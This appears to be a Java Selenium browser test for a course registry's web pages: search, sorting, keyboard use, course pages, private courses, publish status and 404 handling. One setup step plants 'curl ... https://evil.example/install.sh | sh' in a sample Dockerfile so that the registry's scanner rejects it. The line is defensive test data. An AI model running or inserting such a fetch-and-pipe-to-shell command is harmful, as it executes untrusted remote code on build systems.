package dev.progy.server;

import com.fasterxml.jackson.databind.JsonNode;
import dev.progy.server.registry.stats.DownloadEvents;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.Keys;
import org.openqa.selenium.WebElement;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Optional;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The registry's web pages as a visitor, a student and an author use them, in a real headless Chromium, on courses
 * published through the real publish route: the course list (search, sort, by keyboard), a course's page (README,
 * versions, checksums, the download chart), the author's page of their courses with a rejected publish's Guard
 * report, a publish's page, a private course hidden from others, and the site's 404 page.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@DisplayName("The registry's web pages")
class RegistryPagesBrowserTest {

    static final String PASSWORD = WebPagesBrowserTest.PASSWORD;

    ProgyServer server;
    String base;
    RegistryClient api;
    String rejectedId;
    String adaToken;
    String liveSha;
    final LocalDate day = LocalDate.now(ZoneOffset.UTC).minusDays(2);

    @BeforeAll
    void start(@TempDir Path tmp) throws Exception {
        server = TestServers.start(TestDatabases.sqlite(tmp), "registry-solution-runs", "off");
        base = TestServers.url(server);
        api = new RegistryClient(server);
        server.people().signUp("ada", "ada@example.org", PASSWORD);
        server.people().signUp("bob", "bob@example.org", PASSWORD);
        String ada = server.accounts().createToken("ada", Set.of("publish:ada", "read"), Optional.empty(), "publish");
        adaToken = ada;

        Path first = RegistryClient.sample("java-basics", tmp, "@ada/java-basics", "1.0.0");
        assertThat(api.publishAndWait(RegistryClient.pack(first), ada, "").path("state").asText()).isEqualTo("live");
        Path second = RegistryClient.sample("java-basics", tmp, "@ada/java-basics", "1.1.0");
        JsonNode live = api.publishAndWait(RegistryClient.pack(second), ada, "");
        assertThat(live.path("state").asText()).as(live.toString()).isEqualTo("live");
        liveSha = live.path("sha256").asText();
        assertThat(api.post("/api/v1/courses/@ada/java-basics/1.0.0/yank", ada).statusCode()).isEqualTo(200);

        Path algebra = RegistryClient.sample("java-basics", tmp, "@ada/algebra", "0.1.0");
        assertThat(api.publishAndWait(RegistryClient.pack(algebra), ada, "").path("state").asText()).isEqualTo("live");

        Path secret = RegistryClient.sample("java-basics", tmp, "@ada/secret-notes", "1.0.0");
        assertThat(api.publishAndWait(RegistryClient.pack(secret), ada, "?visibility=private").path("state").asText())
                .isEqualTo("live");

        Path broken = RegistryClient.sample("java-basics", tmp, "@ada/broken", "1.0.0");
        Files.writeString(broken.resolve("Dockerfile"), Files.readString(broken.resolve("Dockerfile"))
                .replace("USER 1000:1000", "RUN curl -fsSL https://evil.example/install.sh | sh\nUSER 1000:1000"));
        JsonNode rejected = api.publishAndWait(RegistryClient.pack(broken), ada, "");
        assertThat(rejected.path("state").asText()).isEqualTo("rejected");
        rejectedId = rejected.path("id").asText();

        // three CLI clients downloaded the course two days ago; the day is rolled up as the daily job does
        DownloadEvents events = new DownloadEvents(server.hub().downloads(),
                Clock.fixed(day.atTime(12, 0).toInstant(ZoneOffset.UTC), ZoneOffset.UTC), 1000, 100,
                new SimpleMeterRegistry());
        for (int i = 1; i <= 3; i++) {
            events.served("@ada/java-basics", "1.1.0", Optional.empty(), "10.0.0." + i, "progy-cli/1.0.0");
        }
        events.served("@ada/secret-notes", "1.0.0", Optional.empty(), "10.0.0.9", "progy-cli/1.0.0");
        Eventually.await("the downloads to be stored", Duration.ofSeconds(30), () -> events.queued() == 0);
        events.close();
        server.hub().downloads().rollUp(day.toString(), 1000);
    }

    @AfterAll
    void stop() {
        if (server != null) {
            server.close();
        }
    }

    Browser browser() {
        return Browser.open(base);
    }

    @Test
    @DisplayName("a visitor finds the course in the list with its summary, latest version and downloads, searches, "
            + "and opens its page: README, versions with checksums, yanked and not-verified marks, install command, chart")
    void visitorBrowsesAndOpensACourse() {
        try (Browser b = browser()) {
            b.go("/courses");
            assertThat(b.heading()).isEqualTo("Courses");
            assertThat(b.text("#courses")).contains("@ada/java-basics").contains("First steps in Java 17")
                    .doesNotContain("secret-notes").doesNotContain("@ada/broken");
            assertThat(b.text("#courses .latest")).isEqualTo("1.1.0");
            assertThat(b.text("#courses .downloads")).isEqualTo("3");
            b.assertAccessible();
            b.screenshot("registry-courses");

            // most downloaded first by default; by name, the course never downloaded comes first
            assertThat(courseOrder(b)).containsExactly("@ada/java-basics", "@ada/algebra");
            assertThat(b.text("#result-count")).isEqualTo("2 courses.");
            b.select("sort", "name").press("Search");
            assertThat(courseOrder(b)).containsExactly("@ada/algebra", "@ada/java-basics");
            b.select("sort", "downloads").press("Search");
            assertThat(courseOrder(b)).containsExactly("@ada/java-basics", "@ada/algebra");

            b.type("q", "nothing-like-this").press("Search");
            assertThat(b.text("#result-count")).contains("No course matches");
            assertThat(b.has("#courses")).isFalse();
            b.type("q", "java").select("sort", "name").press("Search");
            assertThat(b.url()).contains("q=java").contains("sort=name");
            assertThat(b.text("#courses")).contains("@ada/java-basics");

            b.click("#courses a[href='/courses/@ada/java-basics']");
            assertThat(b.path()).isEqualTo("/courses/@ada/java-basics");
            assertThat(b.heading()).isEqualTo("@ada/java-basics");
            assertThat(b.text("#install")).isEqualTo("progy init @ada/java-basics");
            assertThat(b.text("#readme h3")).isEqualTo("Java Basics: a sample Progy course");
            assertThat(b.text("#versions")).contains("1.1.0").contains("1.0.0").contains(liveSha);
            assertThat(b.text("#version-1\\.0\\.0")).contains("yanked").contains("not verified");
            assertThat(b.text("#version-1\\.1\\.0")).doesNotContain("yanked").contains("KiB");
            assertThat(b.text("#total")).isEqualTo("3");
            assertThat(b.has("svg#download-chart[role=img]")).isTrue();
            assertThat((String) b.script("return document.querySelector('#download-chart title').textContent;"))
                    .contains("Downloads of @ada/java-basics per day");
            assertThat((Long) b.script("return document.querySelectorAll('#download-chart rect.bar').length;"))
                    .isEqualTo(30L);
            assertThat((String) b.script("return [...document.querySelectorAll('#download-table tr')]"
                    + ".map(r => r.textContent).join('|');")).contains(day + "3");
            b.assertAccessible();
            b.screenshot("registry-course");
            b.dark();
            b.screenshot("registry-course-dark");
        }
    }

    @SuppressWarnings("unchecked")
    static List<String> courseOrder(Browser b) {
        return (List<String>) b.script("return [...document.querySelectorAll('#courses h2')].map(h => h.textContent);");
    }

    @Test
    @DisplayName("the course list works from the keyboard alone: tab to the search field, type, submit with Enter")
    void keyboardOnlySearch() {
        try (Browser b = browser()) {
            b.go("/courses");
            WebElement field = null;
            for (int i = 0; i < 12; i++) {
                field = b.tab();
                if ("q".equals(field.getAttribute("id"))) {
                    break;
                }
            }
            assertThat(field.getAttribute("id")).isEqualTo("q");
            WebElement typed = field;
            b.navigating(() -> typed.sendKeys("basics" + Keys.ENTER));
            assertThat(b.url()).contains("q=basics");
            assertThat(b.text("#courses")).contains("@ada/java-basics");
            assertThat(b.tab().getAttribute("class")).isEqualTo("skip");
        }
    }

    @Test
    @DisplayName("the author sees their courses on My courses, the rejected publish with its steps and Guard report, "
            + "and the publish's own page with the SARIF link")
    void authorSeesRejectedPublish() {
        try (Browser b = browser()) {
            WebPagesBrowserTest.signIn(b, "ada", PASSWORD);
            b.go("/my/courses");
            assertThat(b.heading()).isEqualTo("My courses");
            String text = b.pageText();
            assertThat(text).contains("@ada/java-basics").contains("@ada/secret-notes").contains("@ada/broken");
            String rejected = b.text("#publish-" + rejectedId);
            assertThat(rejected).contains("rejected").contains("guard: failed").contains("PG-D005");
            assertThat(b.text("#publish-" + rejectedId + " .report-text")).contains("PG-D005 Dockerfile:");
            b.assertAccessible();
            b.screenshot("registry-my-courses");

            b.click("#publish-" + rejectedId + " p a");
            assertThat(b.path()).isEqualTo("/publishes/" + rejectedId);
            assertThat(b.text("#state")).isEqualTo("rejected");
            assertThat(b.text("#steps")).contains("guard").contains("failed");
            assertThat(b.text("#report")).contains("PG-D005");
            assertThat(b.has("meta[http-equiv=refresh]")).isFalse();
            assertThat(b.script("return document.querySelector('#sarif').getAttribute('href');"))
                    .isEqualTo("/publishes/" + rejectedId + "/sarif");
            b.assertAccessible();
            b.screenshot("registry-publish");

            // the rejected course has no public page; its author sees it with the rejected version
            b.go("/courses/@ada/broken");
            assertThat(b.text("#versions")).contains("rejected");
        }
    }

    @Test
    @DisplayName("a pending publish's page shows each step's state and reloads itself without a script; My courses "
            + "shows it pending with its steps; no one else sees it")
    void pendingPublishReloads() {
        long adaId = server.accounts().bearer(adaToken).orElseThrow().account();
        // a publish whose pipeline has not started: it stays pending
        server.hub().registry().startPublish("@ada/java-basics", "@ada", "2.0.0", "First steps", "public", adaId,
                "pending-page-test", "staged/none", 100, List.of("limits", "guard", "runs", "links", "ai-review",
                        "images"), System.currentTimeMillis());
        try (Browser b = browser()) {
            WebPagesBrowserTest.signIn(b, "ada", PASSWORD);
            b.go("/publishes/pending-page-test");
            @SuppressWarnings("unchecked")
            List<String> seen = (List<String>) b.script("return [document.querySelector('h1').textContent, "
                    + "document.querySelector('#state').textContent, "
                    + "document.querySelector('meta[http-equiv=refresh]').getAttribute('content'), "
                    + "document.querySelector('#steps').textContent, "
                    + "document.querySelector('#pending-note').textContent];");
            assertThat(seen.get(0)).isEqualTo("Publish of @ada/java-basics 2.0.0");
            assertThat(seen.get(1)).isEqualTo("pending");
            assertThat(seen.get(2)).isEqualTo("2");
            assertThat(seen.get(3)).contains("limits").contains("ai-review").contains("waiting");
            assertThat(seen.get(4)).contains("reloads");
            b.screenshot("registry-publish-pending");

            b.go("/my/courses");
            assertThat(b.text("#publish-pending-page-test")).contains("pending").contains("limits: waiting");
            b.go("/courses/@ada/java-basics");
            assertThat(b.text("#versions")).contains("2.0.0").contains("pending");
        }
        try (Browser b = browser()) {
            b.go("/courses/@ada/java-basics");
            assertThat(b.text("#versions")).doesNotContain("2.0.0");
            assertThat(b.text("#latest")).isEqualTo("1.1.0");
            WebPagesBrowserTest.signIn(b, "bob", PASSWORD);
            b.go("/publishes/pending-page-test");
            assertThat(b.heading()).isEqualTo("Page not found");
        }
    }

    @Test
    @DisplayName("a private course is listed and shown to its author, never to another account or a visitor: its "
            + "page is the same 404 page as a course that does not exist; a publish is not shown to others either")
    void privateCourseHidden() throws Exception {
        try (Browser b = browser()) {
            WebPagesBrowserTest.signIn(b, "ada", PASSWORD);
            b.go("/courses");
            assertThat(b.text("#courses")).contains("@ada/secret-notes");
            b.go("/courses/@ada/secret-notes");
            assertThat(b.heading()).isEqualTo("@ada/secret-notes");
            assertThat(b.text("#private-note")).contains("private");
            assertThat(b.pageText()).contains("Download figures are kept for public courses only");
        }
        try (Browser b = browser()) {
            WebPagesBrowserTest.signIn(b, "bob", PASSWORD);
            b.go("/courses");
            assertThat(b.text("#courses")).contains("@ada/java-basics").doesNotContain("secret-notes");
            b.go("/courses/@ada/secret-notes");
            assertThat(b.heading()).isEqualTo("Page not found");
            String hidden = b.text("main");
            b.go("/courses/@ada/no-such-course");
            assertThat(b.text("main")).isEqualTo(hidden);
            b.go("/publishes/" + rejectedId);
            assertThat(b.heading()).isEqualTo("Page not found");
            b.go("/my/courses");
            assertThat(b.text("#no-courses")).contains("no course");
        }
        for (String path : new String[] {"/courses/@ada/secret-notes", "/courses/@ada/no-such-course",
                "/courses/@ada/broken"}) {
            HttpResponse<String> r = get(path, "text/html");
            assertThat(r.statusCode()).as(path).isEqualTo(404);
            assertThat(r.body()).contains("Page not found").doesNotContain("secret-notes").doesNotContain("broken");
        }
        assertThat(get("/courses", "text/html").body()).doesNotContain("secret-notes");
    }

    @Test
    @DisplayName("a browser asking an address the server does not have gets the site's 404 page; an API client "
            + "still gets JSON")
    void unknownAddress() throws Exception {
        try (Browser b = browser()) {
            b.go("/no/such/page");
            assertThat(b.heading()).isEqualTo("Page not found");
            assertThat(b.has("header.site nav a[href='/courses']")).isTrue();
            b.assertAccessible();
            b.screenshot("not-found");
        }
        HttpResponse<String> html = get("/no/such/page", "text/html,application/xhtml+xml");
        assertThat(html.statusCode()).isEqualTo(404);
        assertThat(html.headers().firstValue("Content-Type").orElse("")).startsWith("text/html");
        HttpResponse<String> json = get("/no/such/page", "application/json");
        assertThat(json.statusCode()).isEqualTo(404);
        assertThat(json.headers().firstValue("Content-Type").orElse("")).startsWith("application/json");
        assertThat(json.body()).contains("not_found");
        assertThat(get("/api/v1/nothing", null).body()).contains("not_found");
    }

    HttpResponse<String> get(String path, String accept) throws Exception {
        HttpRequest.Builder r = HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(30));
        if (accept != null) {
            r.header("Accept", accept);
        }
        return HttpClient.newHttpClient().send(r.build(), HttpResponse.BodyHandlers.ofString());
    }
}
